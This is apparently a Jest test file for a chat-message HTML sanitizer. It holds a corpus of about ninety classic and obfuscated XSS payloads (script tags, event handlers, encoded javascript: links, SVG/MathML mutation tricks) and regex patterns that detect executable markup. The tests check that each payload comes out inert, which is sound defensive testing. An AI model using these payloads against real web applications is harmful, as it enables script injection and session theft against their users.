import { MESSAGE_ALLOWED_TAGS, isEmptyAfterSanitizing, sanitizeMessageHtml } from './sanitize';

const EXECUTABLE_PATTERNS: readonly RegExp[] = [
  /<script/i, /<style/i, /<iframe/i, /<object/i, /<embed/i, /<svg/i, /<math/i, /<form/i, /<meta/i, /<base/i,
  /<link/i, /<img/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /expression\(/i, /srcset/i,
  /formaction/i, /style=/i,
];
const SAFE_HREF = /^(?:https?:\/\/|mailto:|tel:|\/(?!\/))/;

/** Fails when the sanitized HTML still holds anything a browser could execute or navigate to off the allow-list. */
const assertInert = (html: string): void => {
  for (const pattern of EXECUTABLE_PATTERNS) {
    if (pattern.test(html)) throw new Error(`output matches ${pattern}: ${html}`);
  }
  for (const [, href] of html.matchAll(/href="([^"]*)"/gi)) {
    if (!SAFE_HREF.test(href)) throw new Error(`output has a disallowed href "${href}": ${html}`);
  }
};

const clean = (html: string) => sanitizeMessageHtml(html).bodyHtml;
const hrefsOf = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);

describe('assertInert (the corpus check itself)', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<p onclick="x()">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="//evil.com">a</a>',
    '<a href="dashboard">a</a>',
    '<p style="color:red">a</p>',
    '<svg></svg>',
  ])('rejects %s', (html) => {
    expect(() => assertInert(html)).toThrow();
  });

  it.each(['<p>hello</p>', '<a href="/dashboard">a</a>', '<a href="https://x.test" rel="noopener noreferrer" target="_blank">a</a>'])(
    'accepts %s',
    (html) => {
      expect(() => assertInert(html)).not.toThrow();
    },
  );
});

/** [name, payload]: classic and obfuscated XSS vectors (OWASP cheat sheet, PortSwigger, html5sec). */
const XSS_VECTORS: readonly (readonly [string, string])[] = [
  // script elements
  ['plain script', '<script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.test/x.js"></script>'],
  ['upper-case script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['mixed-case script', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script split by inner script', '<scr<script>ipt>alert(1)</script>'],
  ['double open bracket', '<<script>alert(1);//<</script>'],
  ['unclosed script', '<script>alert(1)'],
  ['script with attributes and slash', '<script/xss src="https://evil.test/x.js"></script>'],
  ['null byte inside tag name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['script in comment', '<!--<script>-->alert(1)<!--</script>-->'],
  ['comment closing early', '<!-- --!><script>alert(1)</script> -->'],
  ['CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['script inside allowed tag', '<p>hi<script>alert(1)</script></p>'],
  // event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror quoted', '<img src="x" onerror="alert(1)">'],
  ['img onerror backtick', '<img src=x onerror=`alert(1)`>'],
  ['img onerror slash-separated', '<img/src=x/onerror=alert(1)>'],
  ['img onload', '<img src="https://x.test/a.png" onload="alert(1)">'],
  ['body onload', '<body onload=alert(1)>hi</body>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg slash onload', '<svg/onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
  ['p onclick', '<p onclick="alert(1)">click</p>'],
  ['b onmouseover', '<b onmouseover="alert(1)">hover</b>'],
  ['a onmouseover', '<a href="https://x.test" onmouseover="alert(1)">x</a>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['handler with newline before equals', '<p onclick\n=alert(1)>x</p>'],
  // URLs in links
  ['javascript href', '<a href="javascript:alert(1)">link</a>'],
  ['upper-case javascript href', '<a href="JAVASCRIPT:alert(1)">link</a>'],
  ['mixed-case javascript href', '<a href="JaVaScRiPt:alert(1)">link</a>'],
  ['leading space javascript href', '<a href=" javascript:alert(1)">link</a>'],
  ['leading newline javascript href', '<a href="\njavascript:alert(1)">link</a>'],
  ['leading tab javascript href', '<a href="\tjavascript:alert(1)">link</a>'],
  ['control char before javascript href', '<a href="\u0001javascript:alert(1)">link</a>'],
  ['decimal entity javascript href', '<a href="&#106;avascript:alert(1)">link</a>'],
  ['padded decimal entities href', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">link</a>'],
  ['hex entity javascript href', '<a href="&#x6A;avascript:alert(1)">link</a>'],
  ['encoded tab inside javascript href', '<a href="jav&#x09;ascript:alert(1)">link</a>'],
  ['encoded newline inside javascript href', '<a href="jav&#x0A;ascript:alert(1)">link</a>'],
  ['encoded colon javascript href', '<a href="javascript&colon;alert(1)">link</a>'],
  ['double-encoded javascript href', '<a href="&amp;#106;avascript:alert(1)">link</a>'],
  ['unquoted javascript href', '<a href=javascript:alert(1)>link</a>'],
  ['backtick javascript href', '<a href=`javascript:alert(1)`>link</a>'],
  ['unclosed javascript anchor', '<a href="javascript:alert(1)">link'],
  ['unterminated href attribute', '<a href="javascript:alert(1)'],
  ['data html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>'],
  ['mixed-case data href', '<a href="DaTa:text/html,<script>alert(1)</script>">link</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">link</a>'],
  ['upper-case vbscript href', '<a href="VBSCRIPT:msgbox(1)">link</a>'],
  ['protocol-relative href', '<a href="//evil.test/phish">link</a>'],
  ['backslash protocol-relative href', '<a href="/\\evil.test/phish">link</a>'],
  ['tab-split protocol-relative href', '<a href="/\t/evil.test/phish">link</a>'],
  ['xlink href on svg anchor', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">link</text></a></svg>'],
  // SVG and MathML
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate href', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['svg set onbegin', '<svg><set attributeName="onload" to="alert(1)" onbegin=alert(1) /></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['math with link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ['math maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['math mglyph style mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  // styles
  ['style element', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['style import', '<style>@import "https://evil.test/x.css";</style>'],
  ['style attribute expression', '<p style="width: expression(alert(1))">x</p>'],
  ['style attribute url', '<p style="background:url(javascript:alert(1))">x</p>'],
  // other active content
  ['img srcset', '<img srcset="https://evil.test/a.png 1x, javascript:alert(1) 2x">'],
  ['picture source srcset', '<picture><source srcset="javascript:alert(1)"></picture>'],
  ['form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">go</button>'],
  ['input formaction', '<form><input type="submit" formaction="javascript:alert(1)"></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['iframe src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['object with param', '<object type="text/html" data="data:text/html,x"><param name="src" value="javascript:alert(1)"></object>'],
  ['embed src', '<embed src="javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['link import', '<link rel="import" href="https://evil.test/x.html">'],
  ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['title breakout', '<title></title><img src=x onerror=alert(1)>'],
  ['xmp breakout', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['isindex action', '<isindex action="javascript:alert(1)" type=submit>'],
  ['attribute splitting with quote', '<a href="https://x.test" title=\'"><img src=x onerror=alert(1)>\'>x</a>'],
  ['custom element with handler', '<x-foo onclick=alert(1)>x</x-foo>'],
];

describe('sanitizeMessageHtml: XSS corpus', () => {
  it('has at least 60 distinct vectors', () => {
    expect(new Set(XSS_VECTORS.map(([, payload]) => payload)).size).toBeGreaterThanOrEqual(60);
    expect(XSS_VECTORS.length).toBe(new Set(XSS_VECTORS.map(([name]) => name)).size);
  });

  it.each(XSS_VECTORS)('%s is made inert', (_name, payload) => {
    const { bodyHtml, bodyText } = sanitizeMessageHtml(payload);
    assertInert(bodyHtml);
    // bodyText is displayed as text, but it must not carry markup a careless renderer would run either.
    expect(bodyText).not.toMatch(/<(script|img|svg|iframe)/i);
  });

  it.each([
    ['<a href="javascript:alert(1)">link</a>', 'link'],
    ['<a href="&#106;avascript:alert(1)">link</a>', 'link'],
    ['<a href="//evil.test">link</a>', 'link'],
    ['<p>before<a href="vbscript:x">link</a>after</p>', '<p>beforelinkafter</p>'],
  ])('unwraps an anchor whose href is dropped, keeping its text: %s', (payload, expected) => {
    expect(clean(payload)).toBe(expected);
  });

  it.each([
    ['<script>alert(1)</script>after', 'after'],
    ['<style>p{color:red}</style>after', 'after'],
    ['<textarea>typed</textarea>after', 'after'],
    ['<noscript>fallback</noscript>after', 'after'],
    ['<iframe>frame</iframe>after', 'after'],
    ['<object>obj</object>after', 'after'],
    ['<svg><text>drawn</text></svg>after', 'after'],
    ['<math><mi>x</mi></math>after', 'after'],
    ['<template>later</template>after', 'after'],
    ['<title>page</title>after', 'after'],
    ['<xmp>raw</xmp>after', 'after'],
    ['<noembed>fallback</noembed>after', 'after'],
    ['<noframes>fallback</noframes>after', 'after'],
  ])('discards the contents of non-text elements, not just the tags: %s', (payload, expected) => {
    expect(sanitizeMessageHtml(payload)).toEqual({ bodyHtml: expected, bodyText: expected });
  });
});

describe('sanitizeMessageHtml: links', () => {
  it('keeps a site-relative link as a same-tab anchor with nothing added', () => {
    expect(clean('<a href="/dashboard">Dashboard</a>')).toBe('<a href="/dashboard">Dashboard</a>');
  });

  it('opens an external link in a new tab without an opener', () => {
    expect(clean('<a href="https://example.com">x</a>')).toBe(
      '<a href="https://example.com" rel="noopener noreferrer" target="_blank">x</a>',
    );
  });

  it.each([
    ['http://example.com/path?q=1&r=2', 'http://example.com/path?q=1&amp;r=2'],
    ['mailto:owner@example.com', 'mailto:owner@example.com'],
    ['tel:+15551234567', 'tel:+15551234567'],
    ['HTTPS://Example.com', 'HTTPS://Example.com'],
  ])('keeps the external link %s with rel and target', (href, serialised) => {
    expect(clean(`<a href="${href}">x</a>`)).toBe(`<a href="${serialised}" rel="noopener noreferrer" target="_blank">x</a>`);
  });

  it('discards a user-supplied target and rel on both kinds of link', () => {
    expect(clean('<a href="/inbox" target="_blank" rel="opener">in</a>')).toBe('<a href="/inbox">in</a>');
    expect(clean('<a href="https://x.test" target="_self" rel="opener" title="t" id="i">out</a>')).toBe(
      '<a href="https://x.test" rel="noopener noreferrer" target="_blank">out</a>',
    );
  });

  it('drops a bare target or rel on an anchor without href, unwrapping it', () => {
    expect(clean('<a target="_blank" rel="opener">text</a>')).toBe('text');
  });

  it.each([
    ['protocol-relative', '//evil.com'],
    ['relative without a leading slash', 'dashboard'],
    ['dot-relative', './dashboard'],
    ['fragment only', '#top'],
    ['query only', '?a=1'],
    ['ftp', 'ftp://files.example.com'],
    ['sms', 'sms:+15551234567'],
    ['empty', ''],
    ['double-encoded https (a relative path to a browser)', '&amp;#104;ttps://example.com'],
    ['space inside the scheme (a relative path to a browser)', 'ht tps://example.com'],
  ])('drops a %s href (%s)', (_kind, href) => {
    expect(clean(`<a href="${href}">text</a>`)).toBe('text');
  });

  it('trims whitespace around an allowed href', () => {
    expect(hrefsOf(clean('<a href="  /dashboard  ">d</a>'))).toEqual(['/dashboard']);
  });
});

describe('sanitizeMessageHtml: formatting', () => {
  it('exposes exactly the tags API.md allows', () => {
    expect(MESSAGE_ALLOWED_TAGS).toEqual(['p', 'br', 'b', 'strong', 'i', 'em', 'u', 's', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote', 'a']);
  });

  it.each(['p', 'b', 'strong', 'i', 'em', 'u', 's', 'code', 'pre', 'blockquote'])('keeps <%s>', (tag) => {
    expect(clean(`<${tag}>text</${tag}>`)).toBe(`<${tag}>text</${tag}>`);
  });

  it('keeps lists and line breaks', () => {
    expect(clean('<ul><li>one</li></ul><ol><li>two</li></ol>a<br>b')).toBe('<ul><li>one</li></ul><ol><li>two</li></ol>a<br />b');
  });

  it('strips every attribute from allowed formatting tags', () => {
    expect(clean('<p class="c" id="i" title="t" data-x="1">x</p><code lang="js">y</code>')).toBe('<p>x</p><code>y</code>');
  });

  it.each([
    ['<div>text</div>', 'text'],
    ['<span>text</span>', 'text'],
    ['<h1>text</h1>', 'text'],
    ['<p>a <span class="x">b</span> <font color="red">c</font></p>', '<p>a b c</p>'],
  ])('removes the harmless but disallowed tags in %s and keeps their text', (payload, expected) => {
    expect(clean(payload)).toBe(expected);
  });
});

describe('sanitizeMessageHtml: plain text', () => {
  it('escapes special characters in bodyHtml and keeps them literal in bodyText', () => {
    expect(sanitizeMessageHtml('5 < 6 & 7 > 3')).toEqual({ bodyHtml: '5 &lt; 6 &amp; 7 &gt; 3', bodyText: '5 < 6 & 7 > 3' });
  });

  it('keeps the line breaks of a plain-text message', () => {
    expect(sanitizeMessageHtml('Hi Sam,\nsee you at 5.\n\nThanks').bodyText).toBe('Hi Sam,\nsee you at 5.\n\nThanks');
  });

  it('drops NUL characters, which Postgres text cannot store', () => {
    expect(sanitizeMessageHtml('a\u0000b')).toEqual({ bodyHtml: 'ab', bodyText: 'ab' });
  });
});

describe('sanitizeMessageHtml: bodyText', () => {
  it.each([
    ['<p>one</p><p>two</p>', 'one\n\ntwo'],
    ['line<br>break<br/>again', 'line\nbreak\nagain'],
    ['<ul><li>a</li><li>b</li></ul>after', 'a\nb\n\nafter'],
    ['<blockquote>quoted</blockquote>reply', 'quoted\n\nreply'],
    ['<p>a</p><p></p><p></p><p>b</p>', 'a\n\nb'],
    ['<p>a</p>\n\n\n\n<p>b</p>', 'a\n\nb'],
    ['<p>  padded  </p>', 'padded'],
    ['<b>bold</b> and <a href="/x">link</a>', 'bold and link'],
    ['<pre>  indented\n    code</pre>', 'indented\n    code'],
  ])('derives %j as %j', (html, text) => {
    expect(sanitizeMessageHtml(html).bodyText).toBe(text);
  });

  it.each([
    ['Tom &amp; Jerry', 'Tom & Jerry'],
    ['a &lt;b&gt; c', 'a <b> c'],
    ['no&nbsp;break', 'no break'],
    ['&#65;&#x42;&#X43;', 'ABC'],
    ['&quot;quoted&quot; &apos;single&apos;', '"quoted" \'single\''],
    ['&amp;lt; stays one level deep', '&lt; stays one level deep'],
    ['caf&eacute; &copy;', 'café ©'],
  ])('decodes entities in %j', (html, text) => {
    expect(sanitizeMessageHtml(html).bodyText).toBe(text);
  });
});

describe('isEmptyAfterSanitizing', () => {
  it.each([
    ['<script>x</script>', true],
    ['<p>   </p>', true],
    ['', true],
    ['<p>&nbsp;</p><br>', true],
    ['<a href="javascript:x"></a>', true],
    ['<p>hi</p>', false],
    ['0', false],
    ['<a href="javascript:x">still text</a>', false],
  ])('%j → %s', (html, empty) => {
    expect(isEmptyAfterSanitizing(sanitizeMessageHtml(html))).toBe(empty);
  });
});
